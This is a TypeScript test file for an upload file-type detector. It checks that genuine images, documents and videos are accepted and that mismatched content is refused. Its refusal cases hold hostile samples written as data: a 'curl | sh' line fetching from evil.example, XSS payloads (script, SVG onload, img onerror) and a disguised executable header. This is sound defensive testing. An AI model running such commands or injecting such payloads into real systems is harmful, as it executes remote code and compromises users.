import crypto from 'node:crypto';
import { Readable } from 'node:stream';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { ACCEPTED_FILE_TYPES, extensionOf } from '../../../src/domain/resources/accepted-file-types.ts';
import { detectFileKind, detectFileKindOfBuffer } from '../../../src/server/files/detect-file-kind.ts';
import { SNIFF_BYTES } from '../../../src/server/files/file-kind.ts';
import { officeFile, zipArchive } from '../../helpers/office-files.ts';

const image = (format: 'png' | 'jpeg' | 'gif') =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: '#336699' } })
    .toFormat(format)
    .toBuffer();
const ascii = (text: string) => Buffer.from(text, 'latin1');
const u32 = (n: number) => Buffer.from([n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255]);
/** An ISO-BMFF file's first box (MP4, MOV, HEIC) with its brands, then a free box. */
const ftyp = (major: string, ...compatible: string[]) => {
  const body = Buffer.concat([ascii('ftyp'), ascii(major), u32(0x200), ...compatible.map(ascii)]);
  return Buffer.concat([u32(body.length + 4), body, u32(16), ascii('free'), Buffer.alloc(8)]);
};
const PDF = ascii('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n');
const WEBM = Buffer.from([
  0x1a,
  0x45,
  0xdf,
  0xa3,
  0x9f,
  0x42,
  0x86,
  0x81,
  0x01,
  0x42,
  0xf7,
  0x81,
  0x01,
  0x42,
  0xf2,
  0x81,
  0x04,
  0x42,
  0xf3,
  0x81,
  0x08,
  0x42,
  0x82,
  0x84,
  ...ascii('webm'),
  0x42,
  0x87,
  0x81,
  0x04,
  0x42,
  0x85,
  0x81,
  0x02,
]);
const CFB = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
/** A picture stored (not deflated, as producers store PNG and JPEG) in an Office file: pushes the rest past the window. */
const bigPicture = { name: 'word/media/image1.jpeg', content: crypto.randomBytes(SNIFF_BYTES * 3) };

/** Real bytes of every accepted type, Office files as Microsoft Office and as LibreOffice order them. */
const GENUINE = [
  ['photo.png', () => image('png'), 'image', 'image/png'],
  ['photo.jpg', () => image('jpeg'), 'image', 'image/jpeg'],
  ['photo.JPEG', () => image('jpeg'), 'image', 'image/jpeg'],
  ['anim.gif', () => image('gif'), 'image', 'image/gif'],
  ['iphone.heic', () => ftyp('heic', 'mif1', 'heic'), 'image', 'image/heic'],
  ['camera.heif', () => ftyp('mif1', 'mif1', 'heic'), 'image', 'image/heif'],
  ['lease.pdf', () => PDF, 'document', 'application/pdf'],
  ['old.doc', () => CFB, 'document', 'application/msword'],
  ['old.xls', () => CFB, 'document', 'application/vnd.ms-excel'],
  ['old.ppt', () => CFB, 'document', 'application/vnd.ms-powerpoint'],
  ['report.docx', () => officeFile('docx'), 'document', ACCEPTED_FILE_TYPES.find((t) => t.ext === 'docx')?.mime],
  [
    'sheet.xlsx',
    () => officeFile('xlsx', { contentTypes: 'last' }),
    'document',
    ACCEPTED_FILE_TYPES.find((t) => t.ext === 'xlsx')?.mime,
  ],
  [
    'deck.pptx',
    () => officeFile('pptx', { dataDescriptor: true }),
    'document',
    ACCEPTED_FILE_TYPES.find((t) => t.ext === 'pptx')?.mime,
  ],
  [
    'photos.docx',
    () => officeFile('docx', { contentTypes: 'last', before: [bigPicture] }),
    'document',
    ACCEPTED_FILE_TYPES.find((t) => t.ext === 'docx')?.mime,
  ],
  [
    'photos-office.docx',
    () => officeFile('docx', { before: [bigPicture] }),
    'document',
    ACCEPTED_FILE_TYPES.find((t) => t.ext === 'docx')?.mime,
  ],
  [
    'notes.txt',
    () => Buffer.from('Leak in 4B — café <pat@harbor.example>, pressure < 2 bar\n'.repeat(2000)),
    'document',
    'text/plain',
  ],
  ['units.csv', () => Buffer.from('unit,floor\n4B,4\n'), 'document', 'text/csv'],
  ['flood.mp4', () => ftyp('isom', 'isom', 'iso2', 'avc1', 'mp41'), 'video', 'video/mp4'],
  ['flood.mov', () => ftyp('qt  ', 'qt  '), 'video', 'video/quicktime'],
  ['flood.webm', () => WEBM, 'video', 'video/webm'],
] as const;

describe('detectFileKind: real file headers (file-type) decide the kind', () => {
  it.each(GENUINE)('%s is accepted as %s (%s)', async (name, content, kind, contentType) => {
    expect(await detectFileKindOfBuffer(name, await content())).toMatchObject({ ok: true, kind, contentType });
  });

  it('has a genuine sample of every accepted type', () => {
    const covered = new Set(GENUINE.map(([name]) => extensionOf(name)));
    expect(ACCEPTED_FILE_TYPES.filter((type) => !covered.has(type.ext))).toEqual([]);
  });

  it.each([
    ['evil.jpg', ascii('<!doctype html>\n<html><script>fetch("/api")</script></html>'), 'HTML, XML or a script'],
    ['evil.jpg', ascii('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'HTML'],
    ['evil.png', ascii('#!/usr/bin/env node\nrequire("child_process")'), 'HTML, XML or a script'],
    ['evil.jpg', ascii('alert(document.cookie)'), 'of an unrecognised type'],
    ['scan.jpg', PDF, 'a document (pdf)'],
    ['clip.mp4', () => image('png'), 'an image (png)'],
    ['lease.pdf', Buffer.concat([ascii('MZ'), Buffer.alloc(62), ascii('PE\0\0')]), 'exe'],
    ['install.txt', ascii('#!/bin/sh\ncurl -s https://evil.example/x | sh\n'), 'HTML, XML or a script'],
    ['notes.txt', ascii(`${'Leak in 4B, pressure < 2 bar.\n'.repeat(2000)}<script>fetch("/api")</script>`), 'HTML'],
    ['units.csv', ascii(`${'4B,4\n'.repeat(5000)}"<img src=x onerror=alert(1)>",5\n`), 'HTML'],
    ['report.docx', zipArchive([{ name: 'payload.txt', content: 'not a Word document' }]), 'a plain ZIP archive'],
    ['sheet.xlsx', zipArchive([{ name: 'photo.png', content: crypto.randomBytes(SNIFF_BYTES * 2) }]), 'a plain ZIP'],
    ['deck.pptx', zipArchive([{ name: '[Content_Types].xml', content: '<Types/>' }]), 'a plain ZIP archive'],
  ] as const)('%s with the wrong content is refused (%s)', async (name, content, why) => {
    const bytes = typeof content === 'function' ? await content() : content;
    const decision = await detectFileKindOfBuffer(name, bytes);
    expect(decision.ok).toBe(false);
    expect(decision).toMatchObject({ message: expect.stringContaining(why) });
    expect(decision).toMatchObject({ message: expect.stringMatching(new RegExp(`^'${name}' is not an? `)) });
  });

  it('decides a large Office file from the window of its stream, and a plain ZIP named .docx is refused', async () => {
    const chunked = (bytes: Buffer) =>
      Readable.from(
        Array.from({ length: Math.ceil(bytes.length / 16_384) }, (_, i) =>
          bytes.subarray(i * 16_384, (i + 1) * 16_384),
        ),
      );
    const docx = officeFile('docx', { contentTypes: 'last', before: [bigPicture] });
    const genuine = await detectFileKind('photos.docx', chunked(docx));
    expect(genuine.decision).toMatchObject({ ok: true, ext: 'docx' });
    expect(Buffer.concat(await genuine.stream.toArray()).equals(docx)).toBe(true);
    const plain = await detectFileKind(
      'photos.docx',
      chunked(zipArchive([bigPicture].map((p) => ({ ...p, name: 'image1.jpeg' })))),
    );
    expect(plain.decision).toEqual({
      ok: false,
      message: "'photos.docx' is not a Word document: its content is a plain ZIP archive.",
    });
    plain.stream.destroy();
  });

  it('holds only the window of a large stream while it decides', async () => {
    let pulled = 0;
    async function* large() {
      for (let i = 0; i < 640; i++) {
        pulled += 1;
        yield Buffer.alloc(16_384, 'a');
      }
    }
    const { decision, stream } = await detectFileKind('big.txt', Readable.from(large()));
    expect(decision).toMatchObject({ ok: true, ext: 'txt' });
    expect(pulled * 16_384).toBeLessThanOrEqual(SNIFF_BYTES + 16_384);
    let length = 0;
    for await (const chunk of stream) length += (chunk as Buffer).length;
    expect(length).toBe(640 * 16_384);
  });

  it('reads only the head of a stream and still passes every byte on', async () => {
    const png = await image('png');
    const rest = crypto.randomBytes(300 * 1024);
    const whole = Buffer.concat([png, rest]);
    const chunks = Array.from({ length: Math.ceil(whole.length / 1000) }, (_, i) =>
      whole.subarray(i * 1000, i * 1000 + 1000),
    );
    const { decision, stream } = await detectFileKind('big.png', Readable.from(chunks));
    expect(decision).toMatchObject({ ok: true, contentType: 'image/png' });
    expect(Buffer.concat(await stream.toArray()).equals(whole)).toBe(true);
  });

  it('passes on a short stream whole, and a source error after the head', async () => {
    const short = await detectFileKind('a.csv', Readable.from([Buffer.from('a,b\n')]));
    expect(short.decision).toMatchObject({ ok: true, ext: 'csv' });
    expect(Buffer.concat(await short.stream.toArray()).toString()).toBe('a,b\n');

    async function* failing() {
      yield Buffer.from(PDF);
      yield Buffer.alloc(70 * 1024);
      throw new Error('client went away');
    }
    const { decision, stream } = await detectFileKind('a.pdf', Readable.from(failing()));
    expect(decision).toMatchObject({ ok: true, ext: 'pdf' });
    await expect(stream.toArray()).rejects.toThrow('client went away');
  });
});
